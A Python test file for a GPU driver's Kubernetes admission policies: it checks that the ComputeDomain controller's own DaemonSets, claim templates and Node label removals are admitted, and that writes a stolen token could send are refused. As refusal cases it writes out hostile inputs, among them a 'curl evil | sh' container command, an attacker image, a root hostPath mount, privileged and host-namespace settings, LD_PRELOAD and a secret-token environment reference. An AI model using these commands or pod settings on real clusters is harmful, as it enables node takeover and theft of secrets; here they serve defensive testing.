"""The ComputeDomain controller's admission policies, evaluated with the official CEL runtime as
tests/test_chart_policy_computedomain.py does the daemons': what the controller's own builders
(cluster/computedomain/objects.py, plan.py) produce from the chart's command line is admitted,
as the client sends it and as the API server presents it after defaulting; a DaemonSet that
runs anything else, or anything more privileged, a template for other devices, and a Node
change beyond removing the domain label are refused; other users are none of theirs."""

import asyncio
import copy
import re
from typing import Any

import pytest

from cli import build_parser
from cli.computedomaincontroller import daemon_settings
from cluster.computedomain import plan as planning
from cluster.computedomain.controller import ComputeDomainController
from cluster.computedomain.objects import (
    DaemonSettings,
    daemon_set,
    daemon_template,
    workload_template,
)
from driver.common.wire import Obj
from drivers.computedomain import names
from sandbox.apiserver import LocalApiServer
from tests.chart_render import NAMESPACE, render
from tests.computedomains import DRIVER_NAMESPACE, domain
from tests.test_chart_policy_computedomain import evaluate, policy
from tests.test_computedomain_controller import one, settled

UID = "3b1c6a4e-8f2d-4c1a-9e7b-5d0f2a6c8e11"
CONTROLLER = f"system:serviceaccount:{NAMESPACE}:gpu-dra-driver-compute-domain-controller"
_ENABLED = ("computeDomains.enabled=true",)
_IMAGE = "the ComputeDomain controller's DaemonSet runs one container: gpu-dra " \
    "compute-domain-daemon run, from the chart's image gpu-dra-driver:0.2.0"  # fmt: skip
_ACCOUNT = "the ComputeDomain controller's DaemonSet runs as the IMEX daemons' ServiceAccount " \
    "compute-domain-daemon-service-account"  # fmt: skip
_PRIVILEGE = "the ComputeDomain controller's DaemonSet has no volume, host network, PID or IPC " \
    "namespace, security context, port, lifecycle hook, init or ephemeral container, node " \
    "name, runtime or priority class, or AppArmor or seccomp annotation"  # fmt: skip
_PROBES = "the ComputeDomain controller's DaemonSet probes with gpu-dra compute-domain-daemon " \
    "check only"  # fmt: skip
_NODE = "the ComputeDomain controller may only remove the label " \
    "resource.nvidia.com/computeDomain of a Node, not change node gb-a otherwise"  # fmt: skip


def chart_settings(*sets: str, namespace: str = NAMESPACE) -> DaemonSettings:
    """The daemon settings the chart's controller runs with: its rendered command line, parsed
    by gpu-dra's own parser, as cli/computedomaincontroller.py builds them."""
    found = render((), (*_ENABLED, *sets))
    (deployment,) = [o for o in found if o["kind"] == "Deployment"]
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    args = [re.sub(r"\$\((\w+)\)", "10.0.0.5", a) for a in container["args"]]
    return daemon_settings(build_parser().parse_args(args), namespace)


SETTINGS = [
    (),
    ("imagePullSecrets[0].name=ecr", "image.pullPolicy=Always"),
    ("computeDomains.controller.maxNodesPerImexDomain=9",
     "computeDomains.controller.daemonLogLevel=DEBUG", "kubeletPlugin.logFormat=json"),
]  # fmt: skip


def served(ds: dict[str, Any]) -> dict[str, Any]:
    """``ds`` as admission sees it after the API server's defaulting (apps/v1 and core/v1
    defaults, and the deprecated ``serviceAccount`` the v1 conversion fills in): the pod
    template is the real server's exactly (tests/e2e/test_admission.py holds it there)."""
    ds = copy.deepcopy(ds)
    ds["spec"].setdefault("revisionHistoryLimit", 10)
    ds["spec"].setdefault("updateStrategy", {"type": "RollingUpdate", "rollingUpdate": {
        "maxUnavailable": 1, "maxSurge": 0}})  # fmt: skip
    pod = ds["spec"]["template"]["spec"]
    pod.update(restartPolicy="Always", terminationGracePeriodSeconds=30, dnsPolicy="ClusterFirst",
               securityContext={}, schedulerName="default-scheduler",
               serviceAccount=pod["serviceAccountName"])  # fmt: skip
    for c in pod["containers"]:
        c.setdefault("imagePullPolicy", "IfNotPresent")
        c.update(terminationMessagePath="/dev/termination-log",
                 terminationMessagePolicy="File")  # fmt: skip
        for e in c["env"]:
            if "valueFrom" in e:
                e["valueFrom"]["fieldRef"].setdefault("apiVersion", "v1")
        for probe in ("startupProbe", "livenessProbe", "readinessProbe"):
            c[probe]["successThreshold"] = 1
    return ds


@pytest.fixture(scope="module")
def daemonsets() -> dict[str, Any]:
    return policy("-compute-domain-controller-daemonsets")


@pytest.fixture(scope="module")
def nodes() -> dict[str, Any]:
    return policy("-compute-domain-controller-nodes")


@pytest.fixture(scope="module")
def templates() -> dict[str, Any]:
    return policy("-compute-domain-controller-templates")


def denials(
    spec: dict[str, Any],
    obj: dict[str, Any],
    old: dict[str, Any] | None = None,
    user: str = CONTROLLER,
) -> list[str]:
    resource = {"DaemonSet": "daemonsets", "Node": "nodes"}.get(obj["kind"], "")
    return evaluate(
        spec,
        operation="UPDATE" if old is not None else "CREATE",
        resource=resource or "resourceclaimtemplates",
        namespace=str(obj["metadata"].get("namespace") or ""),
        obj=obj,
        old=old,
        user=user,
    )


def _ds() -> dict[str, Any]:
    return served(daemon_set(domain(uid=UID), chart_settings()))


def _pod(ds: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = ds["spec"]["template"]["spec"]
    return spec


def _container(ds: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = _pod(ds)["containers"][0]
    return container


# -- what the controller sends ------------------------------------------------------------


@pytest.mark.parametrize("sets", SETTINGS, ids=["default", "pull-secrets", "tuned"])
def test_the_controllers_daemonset_is_admitted_as_sent_and_as_served(
    daemonsets: dict[str, Any], sets: tuple[str, ...]
) -> None:
    settings = chart_settings(*sets)
    sent = daemon_set(domain(uid=UID), settings)
    assert denials(daemonsets, sent) == []
    assert denials(daemonsets, served(sent)) == []
    # The plan's patch of a drifted spec: the desired spec merged over what is there.
    drifted = served(sent)
    _container(drifted)["env"] = _container(drifted)["env"][:2]
    drifted["metadata"]["resourceVersion"] = "7"
    (write,) = planning._converge(planning.DAEMON_SETS, sent, [drifted], "DaemonSet")
    assert write.verb == "patch" and write.body is not None
    patched = served({**drifted, "spec": write.body["spec"]})
    assert denials(daemonsets, patched, drifted) == []


def test_a_daemonset_of_an_older_image_is_released_but_not_set_again(
    daemonsets: dict[str, Any],
) -> None:
    """A DaemonSet made before a chart upgrade, of the old image, loses its finalizer when its
    domain goes (a patch of metadata only); a patch that sets its pod template is checked."""
    old = _ds()
    _container(old)["image"] = "gpu-dra-driver:0.1.0"
    old["metadata"].update(deletionTimestamp="2026-12-05T09:00:00Z", resourceVersion="9")
    (write,) = planning._converge(planning.DAEMON_SETS, daemon_set(domain(uid=UID),
                                  chart_settings()), [old], "DaemonSet")  # fmt: skip
    assert write.body == {"metadata": {"finalizers": None, "resourceVersion": "9"}}
    released = copy.deepcopy(old)
    del released["metadata"]["finalizers"]
    assert denials(daemonsets, released, old) == []
    hosted = copy.deepcopy(old)
    _pod(hosted)["hostPID"] = True
    assert denials(daemonsets, hosted, old) == [_IMAGE, _PRIVILEGE]


def test_the_controllers_templates_are_admitted(templates: dict[str, Any]) -> None:
    cd = domain(uid=UID)
    daemon = daemon_template(cd, chart_settings())
    workload = workload_template(cd)
    for template in (daemon, workload):
        assert denials(templates, template) == []
        defaulted = copy.deepcopy(template)
        request = defaulted["spec"]["spec"]["devices"]["requests"][0]["exactly"]
        request.update(allocationMode="ExactCount", count=1)
        assert denials(templates, defaulted) == []
        # The plan restores a label or finalizer with a patch: an UPDATE, of an immutable
        # spec, which the policy does not match.
        assert denials(templates, defaulted, template) == []
    gpus = copy.deepcopy(daemon)
    gpus["spec"]["spec"]["devices"]["requests"][0]["exactly"]["deviceClassName"] = "x"
    assert denials(templates, gpus) and denials(templates, gpus, daemon) == []


def _node(**labels: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": "gb-a", "labels": {"kubernetes.io/hostname": "gb-a", **labels}},
        "spec": {
            "providerID": "aws:///us-east-1a/i-1",
            "taints": [{"key": "nvidia.com/gpu", "effect": "NoSchedule"}],
        },
    }


def test_the_controllers_node_patch_is_admitted(nodes: dict[str, Any]) -> None:
    labelled = _node(**{names.COMPUTE_DOMAIN_LABEL: UID, names.GPU_CLIQUE_NODE_LABEL: "c.0"})
    labelled["metadata"]["resourceVersion"] = "5"
    observed = planning.Observed(domain=None, nodes=(labelled,))
    (write,) = planning.plan(UID, observed, chart_settings())
    assert (write.resource, write.verb) == (planning.NODES, "patch") and write.body is not None
    after = copy.deepcopy(labelled)
    for key, value in write.body["metadata"]["labels"].items():
        assert value is None  # a removal: the merge patch's null
        del after["metadata"]["labels"][key]
    assert denials(nodes, after, labelled) == []


# -- what a stolen token could send ---------------------------------------------------------


def test_a_daemonset_running_anything_else_is_refused(daemonsets: dict[str, Any]) -> None:
    other_image = _ds()
    _container(other_image)["image"] = "attacker/root:1"
    assert denials(daemonsets, other_image) == [_IMAGE]
    shell = _ds()
    _container(shell)["command"] = ["sh", "-c", "curl evil | sh"]
    assert denials(daemonsets, shell) == [_IMAGE]
    argued = _ds()
    _container(argued)["args"] = ["--flag"]
    assert denials(daemonsets, argued) == [_IMAGE]
    second = _ds()
    _pod(second)["containers"].append({**_container(second), "name": "second"})
    assert _IMAGE in denials(daemonsets, second)
    probe = _ds()
    _container(probe)["livenessProbe"]["exec"]["command"] = ["sh", "-c", "id"]
    assert denials(daemonsets, probe) == [_PROBES]


def test_a_daemonset_under_another_account_is_refused(daemonsets: dict[str, Any]) -> None:
    plugin = _ds()
    _pod(plugin).update(serviceAccountName="gpu-dra-driver-kubelet-plugin",
                        serviceAccount="gpu-dra-driver-kubelet-plugin")  # fmt: skip
    assert denials(daemonsets, plugin) == [_ACCOUNT]
    default = _ds()
    del _pod(default)["serviceAccountName"], _pod(default)["serviceAccount"]
    assert denials(daemonsets, default) == [_ACCOUNT]


def test_a_privileged_or_host_daemonset_is_refused(daemonsets: dict[str, Any]) -> None:
    def with_(change: Any) -> list[str]:
        ds = _ds()
        change(_pod(ds), _container(ds), ds)
        return denials(daemonsets, ds)

    host_root = {"name": "root", "hostPath": {"path": "/"}}
    cases = {
        "hostPath volume": lambda p, c, d: (
            p.update(volumes=[host_root]),
            c.update(volumeMounts=[{"name": "root", "mountPath": "/host"}]),
        ),
        "emptyDir volume": lambda p, c, d: p.update(volumes=[{"name": "x", "emptyDir": {}}]),
        "privileged": lambda p, c, d: c.update(securityContext={"privileged": True}),
        "capabilities": lambda p, c, d: c.update(
            securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}
        ),
        "hostNetwork": lambda p, c, d: p.update(hostNetwork=True),
        "hostPID": lambda p, c, d: p.update(hostPID=True),
        "hostIPC": lambda p, c, d: p.update(hostIPC=True),
        "hostPort": lambda p, c, d: c.update(ports=[{"containerPort": 22, "hostPort": 22}]),
        "initContainer": lambda p, c, d: p.update(initContainers=[{**c, "name": "init"}]),
        "nodeName": lambda p, c, d: p.update(nodeName="control-plane"),
        "runtimeClass": lambda p, c, d: p.update(runtimeClassName="unsandboxed"),
        "spc_t": lambda p, c, d: p["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
        "unconfined": lambda p, c, d: p["securityContext"].update(
            seccompProfile={"type": "Unconfined"}
        ),
        "root": lambda p, c, d: p["securityContext"].update(runAsUser=0),
        "postStart": lambda p, c, d: c.update(
            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}
        ),
        "apparmor annotation": lambda p, c, d: d["spec"]["template"]["metadata"].update(
            annotations={
                f"container.apparmor.security.beta.kubernetes.io/{c['name']}": "unconfined"
            }
        ),
    }
    refused = {name: with_(change) for name, change in cases.items()}
    assert refused == {name: [_PRIVILEGE] for name in cases}
    # A harmless annotation is not one of them.
    assert with_(lambda p, c, d: d["spec"]["template"]["metadata"].update(
        annotations={"kubectl.kubernetes.io/restartedAt": "now"})) == []  # fmt: skip


def test_a_daemonset_with_gpus_or_secrets_in_its_environment_is_refused(
    daemonsets: dict[str, Any],
) -> None:
    def env(change: Any) -> list[str]:
        ds = _ds()
        container = _container(ds)
        container["env"] = change(container["env"])
        (denial,) = denials(daemonsets, ds)
        return [denial.split(" (")[0]]

    refused = ["the ComputeDomain controller's DaemonSet sets only the IMEX daemon's environment"]
    all_gpus = {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}
    assert env(lambda e: [x for x in e if x["name"] != "NVIDIA_VISIBLE_DEVICES"]) == refused
    assert env(lambda e: [*e, all_gpus]) == refused
    assert env(lambda e: [all_gpus, *e]) == refused
    assert env(lambda e: [*e, {"name": "NVIDIA_DRIVER_CAPABILITIES", "value": "all"}]) == refused
    assert env(lambda e: [*e, {"name": "LD_PRELOAD", "value": "/tmp/x.so"}]) == refused
    secret = {"secretKeyRef": {"name": "gpu-dra-driver-token", "key": "token"}}
    assert env(lambda e: [*e[:-1], {"name": "POD_UID", "valueFrom": secret}, e[-1]]) == refused
    from_map = _ds()
    _container(from_map)["envFrom"] = [{"secretRef": {"name": "anything"}}]
    assert denials(daemonsets, from_map) == [_PRIVILEGE]


def test_a_daemonset_claiming_another_template_is_refused(daemonsets: dict[str, Any]) -> None:
    ds = _ds()
    _pod(ds)["resourceClaims"][0]["resourceClaimTemplateName"] = "gpus"
    name = names.daemon_name(UID)
    assert denials(daemonsets, ds) == [
        f"the ComputeDomain controller's DaemonSet {name} claims one device: its daemon "
        f"ResourceClaimTemplate {name}"
    ]
    existing = _ds()
    _pod(existing)["resourceClaims"] = [{"name": "compute-domain-daemon",
                                         "resourceClaimName": "someones-claim"}]  # fmt: skip
    assert len(denials(daemonsets, existing)) == 1


def test_a_template_for_other_devices_is_refused(templates: dict[str, Any]) -> None:
    cd = domain(uid=UID)

    def with_(template: dict[str, Any], **exactly: Any) -> list[str]:
        template = copy.deepcopy(template)
        template["spec"]["spec"]["devices"]["requests"][0]["exactly"].update(exactly)
        return denials(templates, template)

    daemon = daemon_template(cd, chart_settings())
    refused = [
        "the ComputeDomain controller's ResourceClaimTemplates request exactly one device of "
        f"{names.DAEMON_CLASS} in namespace {NAMESPACE}, with no selector or admin access, "
        "configured for compute-domain.nvidia.com only"
    ]
    assert with_(daemon, deviceClassName="gpu.nvidia.com") == refused
    assert with_(daemon, deviceClassName=names.DEFAULT_CHANNEL_CLASS) == refused
    assert with_(daemon, adminAccess=True) == refused
    assert with_(daemon, allocationMode="All") == refused
    assert with_(daemon, allocationMode="ExactCount", count=8) == refused
    assert with_(daemon, selectors=[{"cel": {"expression": "true"}}]) == refused
    other_driver = copy.deepcopy(daemon)
    other_driver["spec"]["spec"]["devices"]["config"][0]["opaque"]["driver"] = "gpu.nvidia.com"
    assert denials(templates, other_driver) == refused
    # The workload template is the default channel's, in the domain's namespace.
    (denial,) = with_(workload_template(cd), deviceClassName="gpu.nvidia.com")
    assert f"{names.DEFAULT_CHANNEL_CLASS} in namespace default" in denial


def test_a_node_change_beyond_removing_the_domain_label_is_refused(nodes: dict[str, Any]) -> None:
    labelled = _node(**{names.COMPUTE_DOMAIN_LABEL: UID})
    untainted = copy.deepcopy(labelled)
    del untainted["spec"]["taints"]
    assert denials(nodes, untainted, labelled) == [_NODE]
    cordoned = copy.deepcopy(labelled)
    cordoned["spec"]["unschedulable"] = True
    assert denials(nodes, cordoned, labelled) == [_NODE]
    # Another label removed, changed or added, beside the domain label's removal or not.
    for labels in (
        {},
        {"kubernetes.io/hostname": "gb-z"},
        {"kubernetes.io/hostname": "gb-a", "team": "ml"},
        {"kubernetes.io/hostname": "gb-a", names.GPU_CLIQUE_NODE_LABEL: "c.9"},
    ):
        relabelled = copy.deepcopy(labelled)
        relabelled["metadata"]["labels"] = labels
        assert denials(nodes, relabelled, labelled) == [_NODE], labels
    # The domain label set or moved to another domain: it would bring a daemon to the node.
    assert denials(nodes, labelled, _node()) == [_NODE]
    moved = _node(**{names.COMPUTE_DOMAIN_LABEL: "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"})
    assert denials(nodes, moved, labelled) == [_NODE]
    annotated = copy.deepcopy(labelled)
    annotated["metadata"]["annotations"] = {"a": "b"}
    assert denials(nodes, annotated, labelled) == [_NODE]


def test_other_users_are_none_of_the_policies(
    daemonsets: dict[str, Any], nodes: dict[str, Any], templates: dict[str, Any]
) -> None:
    ds = _ds()
    _pod(ds)["hostPID"] = True
    admin = "kubernetes-admin"
    assert denials(daemonsets, ds) and denials(daemonsets, ds, user=admin) == []
    untainted = _node()
    del untainted["spec"]["taints"]
    assert (
        denials(nodes, untainted, _node()) and denials(nodes, untainted, _node(), user=admin) == []
    )
    template = copy.deepcopy(workload_template(domain(uid=UID)))
    template["spec"]["spec"]["devices"]["requests"][0]["exactly"]["deviceClassName"] = "x"
    assert denials(templates, template) and denials(templates, template, user=admin) == []


# -- every write of a domain's life, on the in-process API server ---------------------------


async def test_every_write_the_controller_sends_is_admitted(
    apiserver: LocalApiServer, api_client: Any
) -> None:
    """The controller itself, with the chart's settings, through a domain's life: each create
    and patch it sends of a DaemonSet, template or Node is evaluated, as the server stores it,
    by the chart's policies (rendered for the namespace the controller runs in)."""
    sets = (f"namespace.name={DRIVER_NAMESPACE}",)
    rendered = render((), (*_ENABLED, *sets))
    policies = {
        p["spec"]["matchConstraints"]["resourceRules"][0]["resources"][0]: p["spec"]
        for p in rendered
        if p["kind"] == "ValidatingAdmissionPolicy"
        and "-compute-domain-controller-" in p["metadata"]["name"]
    }
    assert sorted(policies) == ["daemonsets", "nodes", "resourceclaimtemplates"]
    user = f"system:serviceaccount:{DRIVER_NAMESPACE}:gpu-dra-driver-compute-domain-controller"
    apiserver.seed(
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": DRIVER_NAMESPACE}}
    )
    ctl = ComputeDomainController(
        api_client, settings=chart_settings(*sets, namespace=DRIVER_NAMESPACE), identity="a",
        leader_elect=False, request_timeout=2.0, backoff_cap=0.2,
    )  # fmt: skip
    checked: list[tuple[str, str, list[str]]] = []
    send = ctl._client.request

    async def request(method: str, path: str, *, verb: str, resource: str, **kw: Any) -> Obj:
        plural = resource.partition(".")[0]
        old = None
        if verb == "patch" and plural in policies:
            name = path.rpartition("/")[2]
            (old,) = [o for o in apiserver.objects(plural) if o["metadata"]["name"] == name]
        answer = await send(method, path, verb=verb, resource=resource, **kw)
        if verb in ("create", "patch") and plural in policies:
            found = evaluate(
                policies[plural], operation="CREATE" if old is None else "UPDATE",
                resource=plural, namespace=str(answer["metadata"].get("namespace") or ""),
                obj=answer, old=old, user=user,
            )  # fmt: skip
            checked.append((verb, plural, found))
        return answer

    ctl._client.request = request  # type: ignore[method-assign]
    task = asyncio.create_task(ctl.run())
    try:
        [cd] = apiserver.seed(domain(num_nodes=1))
        uid = cd["metadata"]["uid"]
        await settled(ctl, lambda: apiserver.objects("daemonsets"))
        # Someone edits the DaemonSet: the controller patches its spec back.
        ds = one(apiserver, "daemonsets")
        ds["spec"]["template"]["spec"]["containers"][0]["env"] = []
        apiserver.put(ds)
        await settled(ctl, lambda: any(v == "patch" and r == "daemonsets" for v, r, _ in checked))
        apiserver.seed(
            {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "n1", "labels": {
                names.COMPUTE_DOMAIN_LABEL: uid, "kubernetes.io/hostname": "n1"}},
             "spec": {"taints": [{"key": "k", "effect": "NoSchedule"}]}},
        )  # fmt: skip
        apiserver.delete("computedomains", "cd1", "default")
        await settled(ctl, lambda: not apiserver.objects("computedomains"))
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
    assert {(verb, plural) for verb, plural, _ in checked} == {
        ("create", "daemonsets"),
        ("patch", "daemonsets"),
        ("create", "resourceclaimtemplates"),
        ("patch", "resourceclaimtemplates"),
        ("patch", "nodes"),
    }
    assert [c for c in checked if c[2]] == []
